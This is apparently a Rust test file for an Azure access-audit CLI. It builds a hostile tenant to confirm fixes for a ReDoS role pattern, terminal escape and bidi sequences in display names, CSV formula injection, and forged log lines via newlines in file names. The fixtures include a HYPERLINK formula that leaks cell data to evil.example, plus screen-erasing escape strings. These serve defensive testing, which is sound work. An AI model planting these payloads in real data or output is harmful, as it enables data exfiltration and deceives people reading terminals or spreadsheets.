//! Issue 10, items 1–3, as an auditor meets them: a tenant whose data was shaped
//! by an attacker (anyone sets their own display name; a tenant admin names and
//! writes custom roles). Each test failed on the build before the fix:
//! - a custom role with `************x` made `lint`, `who`, `can` and `review` run
//!   forever (the pattern matcher backtracked);
//! - ESC, CR, BEL and bidi overrides in names reached the terminal, so a display
//!   name erased the Owner rows of a `who` answer from the screen;
//! - `what --format csv` (`roles`, `operation`) and `diff --format csv`
//!   (`principal_id`) wrote formula cells unneutralised, and `review apply` read a
//!   value that itself began with the guard back as another value.

use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::{json, Value};

use super::support::{on, principal_ids, snap, stdout_json, whocan, write};

const SUB: &str = "/subscriptions/0b1f6471-1bf0-4dda-aec3-444455556666";
const WS: &str = "/subscriptions/0b1f6471-1bf0-4dda-aec3-444455556666/resourceGroups/rg-ml/providers/Microsoft.MachineLearningServices/workspaces/ml-prod";
const OWNER: &str = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";
const LINK_ROLE: &str = "aaaaaaaa-0000-4000-8000-000000000001";
const STAR_ROLE: &str = "aaaaaaaa-0000-4000-8000-000000000002";
const ALICE: &str = "11111111-aaaa-4aaa-8aaa-000000000001";
const EVE: &str = "11111111-aaaa-4aaa-8aaa-000000000002";
const BOB: &str = "11111111-aaaa-4aaa-8aaa-000000000003";
const MALLORY: &str = "11111111-aaaa-4aaa-8aaa-000000000004";
const ADMINS: &str = "22222222-bbbb-4bbb-8bbb-000000000001";
/// A principal id that a spreadsheet reads as a formula.
const MINUS_ID: &str = "-2+3";
/// A principal id that begins with the guard itself.
const QUOTED_ID: &str = "'-quoted";
const WS_READ: &str = "Microsoft.MachineLearningServices/workspaces/read";
const WS_WRITE: &str = "Microsoft.MachineLearningServices/workspaces/write";

/// Eve's display name: erase the line, return to its start, ring, reverse.
const EVE_NAME: &str = "Eve\u{1b}[2K\r\u{1b}[3A\u{7}\u{202e}nimda";
/// The group's display name sets the terminal title.
const ADMINS_NAME: &str = "\u{1b}]0;pwned\u{7}Admins\u{2066}";
const LINK_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
/// A catalogue operation (and provider) a spreadsheet reads as a formula.
const AT_OP: &str = "@SUM(1+1)/read";
/// The adversarial pattern of item 1, bare and under a provider (which `lint`
/// checks against the catalogue).
const STARS: &str = "************x";
const ML_STARS: &str = "Microsoft.MachineLearningServices/************x";

/// The hang guard of the ReDoS test: generous, so that it measures completion,
/// not speed (the old matcher never finished).
const HANG_GUARD: Duration = Duration::from_secs(120);

fn role(id: &str, name: &str, kind: &str, actions: &[&str]) -> Value {
    json!({
        "roleName": name, "name": id,
        "id": format!("/providers/Microsoft.Authorization/roleDefinitions/{id}"),
        "roleType": kind, "assignableScopes": ["/"],
        "permissions": [{"actions": actions, "notActions": [], "dataActions": [], "notDataActions": []}]
    })
}

fn assignment(n: u32, principal: &str, ptype: &str, role: &str) -> Value {
    json!({
        "id": format!("{WS}/providers/Microsoft.Authorization/roleAssignments/0000000{n}-0000-4000-8000-000000000000"),
        "name": format!("0000000{n}-0000-4000-8000-000000000000"),
        "principalId": principal, "principalType": ptype,
        "roleDefinitionId": format!("{SUB}/providers/Microsoft.Authorization/roleDefinitions/{role}"),
        "scope": WS
    })
}

fn user(id: &str, name: &str, upn: &str) -> Value {
    json!({"id": id, "displayName": name, "userPrincipalName": upn, "userType": "Member", "accountEnabled": true})
}

/// The hostile tenant; `later` adds the assignments of a second snapshot (one to
/// a principal whose id starts with `-`), `stars` the role of item 1.
fn tenant(dir: &Path, later: bool, stars: bool) -> PathBuf {
    let data = dir.join(format!("data-{later}-{stars}"));
    let mut roles = vec![
        role(OWNER, "Owner", "BuiltInRole", &["*"]),
        // `.../nothing/read` is no operation: a `lint` finding names the role.
        role(
            LINK_ROLE,
            LINK_NAME,
            "CustomRole",
            &["*/read", "Microsoft.MachineLearningServices/nothing/read"],
        ),
    ];
    let mut assignments = vec![
        assignment(1, ALICE, "User", OWNER),
        assignment(2, EVE, "User", OWNER),
        assignment(3, BOB, "User", LINK_ROLE),
        assignment(4, ADMINS, "Group", OWNER),
        assignment(5, QUOTED_ID, "User", LINK_ROLE),
    ];
    if stars {
        roles.push(role(
            STAR_ROLE,
            "Star Storm",
            "CustomRole",
            &[STARS, ML_STARS],
        ));
        assignments.push(assignment(6, MALLORY, "User", STAR_ROLE));
    }
    if later {
        assignments.push(assignment(7, MINUS_ID, "User", OWNER));
    }
    write(&data, "roles.json", json!(roles).to_string());
    write(&data, "assignments.json", json!(assignments).to_string());
    write(
        &data,
        "users.json",
        json!({"value": [
            user(ALICE, "Alice", "alice@contoso.com"),
            user(EVE, EVE_NAME, "eve@contoso.com"),
            user(BOB, "Bob", "bob@contoso.com"),
            user(MALLORY, "Mallory", "mallory@contoso.com"),
            user(MINUS_ID, "-Minus", "minus@contoso.com"),
            user(QUOTED_ID, "Quoted", "quoted@contoso.com"),
        ]})
        .to_string(),
    );
    // Admins' members were not imported: every answer says so, by name.
    write(
        &data,
        "groups.json",
        json!({"value": [{"id": ADMINS, "displayName": ADMINS_NAME, "securityEnabled": true}]})
            .to_string(),
    );
    write(
        &data,
        "resources.json",
        json!([{"id": WS, "name": "ml-prod", "type": "Microsoft.MachineLearningServices/workspaces", "resourceGroup": "rg-ml"}])
            .to_string(),
    );
    let op = |name: &str| json!({"name": name, "displayName": name, "description": "", "isDataAction": false, "origin": "user,system", "properties": null});
    write(
        &data,
        "operations-ml.json",
        json!({
            "id": "/providers/Microsoft.Authorization/providerOperations/Microsoft.MachineLearningServices",
            "name": "Microsoft.MachineLearningServices", "displayName": "Azure Machine Learning",
            "type": "Microsoft.Authorization/providerOperations", "operations": [],
            "resourceTypes": [{"name": "workspaces", "displayName": "Workspaces",
                "operations": [op(WS_READ), op(WS_WRITE)]}]
        })
        .to_string(),
    );
    write(
        &data,
        "operations-at.json",
        json!({
            "id": "/providers/Microsoft.Authorization/providerOperations/@SUM(1+1)",
            "name": "@SUM(1+1)", "displayName": "@SUM(1+1)",
            "type": "Microsoft.Authorization/providerOperations",
            "operations": [op(AT_OP)], "resourceTypes": []
        })
        .to_string(),
    );
    data
}

fn import(db: &Path, data: &Path, taken_at: &str) {
    let out = whocan(db)
        .args(["import", "--format", "json", "--taken-at", taken_at])
        .arg(data)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A database with the hostile tenant in snapshot 1 and its later state in 2.
fn hostile(dir: &Path, stars: bool) -> PathBuf {
    let db = dir.join("hostile.db");
    import(&db, &tenant(dir, false, stars), "2026-07-01T00:00:00Z");
    import(&db, &tenant(dir, true, stars), "2026-10-01T00:00:00Z");
    db
}

fn run(db: &Path, args: &[&str]) -> std::process::Output {
    let out = whocan(db).args(args).timeout(HANG_GUARD).output().unwrap();
    assert!(
        out.status.code().is_some_and(|c| c <= 1),
        "{args:?} exited {:?}: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// Characters a terminal interprets instead of showing (SPEC §5): C0 but our own
/// newline, DEL, C1, bidi marks, overrides and isolates, line separators.
fn interpreted(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn assert_inert(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let bad: Vec<(usize, char)> = text
        .char_indices()
        .filter(|&(_, c)| interpreted(c))
        .collect();
    assert!(
        bad.is_empty(),
        "{what}: control characters reach the terminal at {bad:?}:\n{}",
        text.escape_debug()
    );
}

/// Item 1: `************x` in a custom role (assigned, so `who`, `can` and
/// `review` meet it too) is answered; the old matcher never finished.
#[test]
fn redos_star_run_role_is_answered_by_lint_who_can_and_review() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("stars.db");
    import(
        &db,
        &tenant(dir.path(), false, true),
        "2026-07-01T00:00:00Z",
    );

    let lint = stdout_json(&run(&db, &["lint", "--format", "json"]));
    let unknown: Vec<&Value> = lint["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "unknown-action")
        .collect();
    assert!(
        unknown.iter().any(|f| f["objects"][1]["id"] == ML_STARS),
        "{lint:#}"
    );

    let who = stdout_json(&run(
        &db,
        &["who", WS_READ, "--scope", WS, "--format", "json"],
    ));
    let ids = principal_ids(&who);
    assert!(ids.contains(&ALICE) && !ids.contains(&MALLORY), "{ids:?}");

    let can = run(
        &db,
        &[
            "can",
            MALLORY,
            WS_READ,
            "--scope",
            WS,
            "--explain",
            "--format",
            "table",
        ],
    );
    assert_eq!(
        can.status.code(),
        Some(1),
        "Mallory's role grants only `...x`"
    );

    let review = run(&db, &["review", "--scope", WS, "--format", "csv"]);
    assert!(String::from_utf8_lossy(&review.stdout).contains("Star Storm"));
}

/// Item 2: what a terminal shows. Eve's name no longer erases the Owner rows;
/// every table, text line, explanation, warning and error shows control
/// characters escaped.
#[test]
fn terminal_output_shows_control_characters_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile(dir.path(), false);

    let who = run(
        &db,
        &[
            "who",
            WS_WRITE,
            "--scope",
            WS,
            "--format",
            "table",
            "--explain",
        ],
    );
    assert_inert("who table", &who.stdout);
    assert_inert("who stderr", &who.stderr);
    let table = String::from_utf8_lossy(&who.stdout);
    // Every Owner is still on the screen, Eve shown as her name was written.
    assert!(table.contains("Alice"), "{table}");
    assert!(table.contains(r"Eve\e[2K\r\e[3A\a\u{202e}nimda"), "{table}");
    assert!(table.contains("-Minus"), "{table}");
    assert!(table.contains(r"\e]0;pwned\aAdmins\u{2066}"), "{table}");

    let text_commands: [&[&str]; 10] = [
        &[
            "can",
            EVE,
            WS_WRITE,
            "--scope",
            WS,
            "--explain",
            "--format",
            "table",
        ],
        &[
            "can",
            "eve@contoso.com",
            WS_WRITE,
            "--scope",
            WS,
            "--format",
            "table",
        ],
        &["what", EVE, "--scope", WS, "--format", "table"],
        &["what", BOB, "--scope", WS, "--format", "table"],
        &["review", "--scope", WS, "--format", "table"],
        &["diff", "1", "2", "--format", "table"],
        &["lint", "--format", "table"],
        &["snapshots", "--format", "table"],
        &["verify", "--format", "table"],
        &["who", WS_WRITE, "--scope", WS, "--graph", "dot"],
    ];
    for args in text_commands {
        let out = run(&db, args);
        assert_inert(&format!("{args:?} stdout"), &out.stdout);
        assert_inert(&format!("{args:?} stderr"), &out.stderr);
    }
    // Warnings on stderr name the group whose members are missing.
    let what = run(&db, &["what", ALICE, "--scope", WS, "--format", "json"]);
    let warnings = String::from_utf8_lossy(&what.stderr);
    assert!(warnings.contains(r"\e]0;pwned\aAdmins"), "{warnings}");
    assert_inert("what warnings", &what.stderr);

    // The removal plan: Eve's row comment is one inert line.
    let rows = csv_rows(&run(&db, &["review", "--scope", WS, "--format", "csv"]).stdout);
    let sheet = dir.path().join("remove.csv");
    std::fs::write(&sheet, decided(&rows, "remove")).unwrap();
    run(
        &db,
        &[
            "review",
            "apply",
            sheet.to_str().unwrap(),
            "--reviewer",
            "auditor",
        ],
    );
    let plan = run(&db, &["review", "plan", "--scope", WS]);
    let text = String::from_utf8_lossy(&plan.stdout);
    assert!(
        text.contains(r"# row: Eve\e[2K \e[3A\a\u{202e}nimda"),
        "{text}"
    );
    assert_inert("review plan", &plan.stdout);
    assert_inert("review plan stderr", &plan.stderr);

    // Errors: a display name that matches several principals lists them.
    let data = tenant(dir.path(), false, false);
    let mut users: Value =
        serde_json::from_str(&std::fs::read_to_string(data.join("users.json")).unwrap()).unwrap();
    users["value"].as_array_mut().unwrap().push(user(
        "11111111-aaaa-4aaa-8aaa-000000000009",
        EVE_NAME,
        "eve2@contoso.com",
    ));
    write(&data, "users.json", users.to_string());
    let twice = dir.path().join("twice.db");
    import(&twice, &data, "2026-07-01T00:00:00Z");
    let err = whocan(&twice)
        .args(["can", EVE_NAME, WS_WRITE, "--scope", WS])
        .output()
        .unwrap();
    assert_eq!(err.status.code(), Some(2));
    let msg = String::from_utf8_lossy(&err.stderr);
    assert!(msg.starts_with("error: "), "{msg}");
    assert!(msg.contains(r"Eve\e[2K\r"), "{msg}");
    assert_inert("ambiguous principal error", &err.stderr);

    // The label of a snapshot is data too (snapshots, import and diff print it).
    let labelled = dir.path().join("label.db");
    let out = whocan(&labelled)
        .args([
            "import",
            "--format",
            "table",
            "--label",
            "Q3\u{1b}[2J",
            "--taken-at",
            "2026-07-01T00:00:00Z",
        ])
        .arg(&data)
        .output()
        .unwrap();
    assert!(out.status.success());
    assert_inert("import table", &out.stdout);
    assert_inert("import stderr", &out.stderr);
}

/// Item 2, the picture: the `who` table an auditor sees, drawn from the hostile
/// tenant (the Owner rows all there, Eve's name inert).
#[test]
fn who_table_of_a_hostile_tenant() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile(dir.path(), false);
    snap!(on(&db).args(["who", WS_WRITE, "--scope", WS, "--format", "table"]));
}

/// Parses a CSV and returns its rows (header first).
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let i = rows[0].iter().position(|h| h == name).unwrap();
    rows[1..].iter().map(|r| r[i].clone()).collect()
}

/// A sheet's rows written back (as a spreadsheet would) with every row decided.
fn decided(rows: &[Vec<String>], decision: &str) -> Vec<u8> {
    let col = rows[0].iter().position(|h| h == "decision").unwrap();
    let mut w = csv::Writer::from_writer(Vec::new());
    for (i, r) in rows.iter().enumerate() {
        let mut r = r.clone();
        if i > 0 {
            r[col] = decision.into();
        }
        w.write_record(&r).unwrap();
    }
    w.into_inner().unwrap()
}

/// Item 3: every cell of every CSV is neutralised, `what` and `diff` included.
#[test]
fn every_csv_cell_is_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile(dir.path(), false);

    let what = csv_rows(&run(&db, &["what", BOB, "--scope", WS, "--format", "csv"]).stdout);
    let roles = column(&what, "roles");
    assert!(
        roles.iter().all(|r| r == &format!("'{LINK_NAME}")),
        "{roles:?}"
    );
    let ops = column(&what, "operation");
    assert!(ops.contains(&format!("'{AT_OP}")), "{ops:?}");
    assert!(column(&what, "provider").contains(&"'@SUM(1+1)".to_string()));

    let diff = csv_rows(&run(&db, &["diff", "1", "2", "--format", "csv"]).stdout);
    let ids = column(&diff, "principal_id");
    assert!(ids.contains(&format!("'{MINUS_ID}")), "{ids:?}");
    assert!(column(&diff, "display_name").contains(&"'-Minus".to_string()));

    for args in [
        &["who", WS_READ, "--scope", WS, "--format", "csv"][..],
        &["can", BOB, WS_READ, "--scope", WS, "--format", "csv"],
        &["what", BOB, "--scope", WS, "--format", "csv"],
        &["what", ALICE, "--scope", WS, "--format", "csv"],
        &["diff", "1", "2", "--format", "csv"],
        &["review", "--scope", WS, "--format", "csv"],
        &["lint", "--format", "csv"],
        &["snapshots", "--format", "csv"],
        &["verify", "--format", "csv"],
    ] {
        let out = run(&db, args);
        let rows = csv_rows(&out.stdout);
        assert!(rows.len() > 1, "{args:?}: no rows");
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{args:?}: formula cell {cell:?}"
            );
        }
    }
}

/// Item 3, the inverse: a fresh sheet applied as it was written records every row
/// as decided on the content it shows, even a principal id that begins with the
/// guard (`'-quoted` came back as `-quoted` and the row looked changed).
#[test]
fn review_sheet_values_come_back_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile(dir.path(), false);
    let sheet = run(&db, &["review", "--scope", WS, "--format", "csv"]).stdout;
    let rows = csv_rows(&sheet);
    // Approve every row, writing the sheet back as a spreadsheet would.
    let path = write(dir.path(), "sheet.csv", decided(&rows, "approve"));
    let out = whocan(&db)
        .args(["review", "apply"])
        .arg(&path)
        .args(["--reviewer", "auditor"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        !stderr.contains("changed since the sheet was made"),
        "{stderr}"
    );
    // Carried over: the next sheet shows every decision as decided, none changed.
    let next = stdout_json(&run(&db, &["review", "--scope", WS, "--format", "json"]));
    let statuses: Vec<&str> = next["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["status"].as_str().unwrap())
        .collect();
    assert!(!statuses.is_empty());
    assert!(statuses.iter().all(|s| *s == "decided"), "{statuses:?}");
    // The cell that carried it: the value behind one more guard.
    assert!(
        column(&rows, "principal_id").contains(&format!("'{QUOTED_ID}")),
        "{rows:?}"
    );
}

/// The browsing commands (issue 14) meet the same tenant: every table shows the
/// control characters of names escaped, every CSV cell is neutralised.
#[test]
fn browsing_output_is_inert_and_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile(dir.path(), false);
    let tables: [&[&str]; 6] = [
        &["workspaces"],
        &["show", EVE],
        &["members", ADMINS],
        &["role", LINK_ROLE, "--assignments"],
        &["show", ADMINS],
        &["who", "--anywhere", WS_WRITE],
    ];
    for args in tables {
        let mut table: Vec<&str> = args.to_vec();
        table.extend(["--format", "table"]);
        let out = run(&db, &table);
        assert_inert(&format!("{args:?} table"), &out.stdout);
        assert_inert(&format!("{args:?} stderr"), &out.stderr);
        let mut csv: Vec<&str> = args.to_vec();
        csv.extend(["--format", "csv"]);
        let rows = csv_rows(&run(&db, &csv).stdout);
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{args:?}: formula cell {cell:?}"
            );
        }
    }
    let eve =
        String::from_utf8_lossy(&run(&db, &["show", EVE, "--format", "table"]).stdout).into_owned();
    assert!(eve.contains(r"Eve\e[2K\r\e[3A\a\u{202e}nimda"), "{eve}");
    let role = csv_rows(&run(&db, &["role", LINK_ROLE, "--format", "csv"]).stdout);
    assert!(column(&role, "role_name").contains(&format!("'{LINK_NAME}")));
}

/// A database file cut short (a copy that did not finish, a disk that failed) is
/// bad input: exit 2 with a hint, not an internal error (exit 3).
#[test]
fn a_truncated_database_is_bad_input_with_a_hint() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("w.db");
    on(&db)
        .arg("import")
        .arg(crate::support::sample_data())
        .expect(0);
    let len = std::fs::metadata(&db).unwrap().len();
    let f = std::fs::OpenOptions::new().write(true).open(&db).unwrap();
    f.set_len(len / 3).unwrap();
    drop(f);
    for args in [&["snapshots"][..], &["verify"][..]] {
        let out = whocan(&db).args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {out:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("hint: the database file is damaged"),
            "{stderr}"
        );
    }
}

/// A file whose name holds a line break cannot print a line of its own in an
/// import's error (a forged "imported 40 files ..."): the name is shown escaped.
#[test]
fn a_line_break_in_a_file_name_is_escaped_in_the_error() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("in");
    std::fs::create_dir(&data).unwrap();
    std::fs::write(
        data.join("bad\nimported 40 files into snapshot 9.json"),
        "{\"value\":[1,",
    )
    .unwrap();
    let out = whocan(&dir.path().join("w.db"))
        .arg("import")
        .arg(&data)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("bad\\nimported 40 files"), "{stderr}");
    assert!(
        !stderr.lines().any(|l| l.starts_with("imported")),
        "{stderr}"
    );
    // The same for a database path and a date given on the command line.
    let only_ours = |stderr: &str| {
        stderr
            .lines()
            .all(|l| l.starts_with("error:") || l.starts_with("hint:"))
    };
    let out = whocan(&dir.path().join("x\nimported 40 files"))
        .arg("snapshots")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(only_ours(&stderr), "{stderr}");
    let stderr = crate::support::sample()
        .args(["who", "x", "--scope", "/", "--as-of", "2026\nimported"])
        .expect(2)
        .stderr();
    assert!(
        only_ours(&stderr) && stderr.contains("2026\\nimported"),
        "{stderr}"
    );
}

/// A TAB inside a name reached a terminal as a TAB when CSV was asked for there
/// (only tables escaped it): cells could be made to look shifted or aligned with
/// another column. It is shown as `\t` on a terminal, like every other control
/// character; to a pipe the CSV keeps the data as it is.
#[test]
fn a_tab_in_a_name_is_shown_escaped_on_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let data = tenant(dir.path(), false, false);
    let mut users: Value =
        serde_json::from_str(&std::fs::read_to_string(data.join("users.json")).unwrap()).unwrap();
    for u in users["value"].as_array_mut().unwrap() {
        if u["id"] == BOB {
            u["displayName"] = json!("Bob\tBuilder");
        }
    }
    write(&data, "users.json", users.to_string());
    let db = dir.path().join("tab.db");
    import(&db, &data, "2026-07-01T00:00:00Z");
    for format in ["csv", "table", "json"] {
        for args in [
            &["who", WS_READ, "--scope", WS][..],
            &["review", "--scope", WS],
            &["show", BOB],
        ] {
            let mut args = args.to_vec();
            args.extend(["--format", format]);
            let Some((code, shown)) = crate::support::on_terminal(&db, &args) else {
                return;
            };
            assert_eq!(code, Some(0), "{args:?}: {shown}");
            // (`show`'s CSV lists Bob's accesses, not his name.)
            if !(args[0] == "show" && format == "csv") {
                assert!(shown.contains(r"Bob\tBuilder"), "{args:?}: {shown}");
            }
            assert!(
                !shown.contains('\t'),
                "{args:?}: a TAB reached the terminal: {shown}"
            );
        }
    }
    // To a pipe, CSV is data: the TAB is kept.
    let piped = run(&db, &["who", WS_READ, "--scope", WS, "--format", "csv"]);
    assert!(String::from_utf8_lossy(&piped.stdout).contains("Bob\tBuilder"));
}

/// A usage error (clap's) shows the bad value escaped, ends with a `hint:`
/// naming the command's help, and exits 2.
#[test]
fn a_usage_error_is_inert_and_ends_with_a_hint() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("none.db");
    for bad in ["x\u{1b}[31mred", "x\u{202e}gnp.exe", "x\u{85}y"] {
        let out = whocan(&db)
            .args(["who", "--format", bad, "a", "--workspace", "w"])
            .timeout(HANG_GUARD)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2));
        assert_inert("usage error", &out.stderr);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.trim_end()
                .ends_with("hint: `whocan who --help` lists its arguments, with examples"),
            "{err}"
        );
    }
}
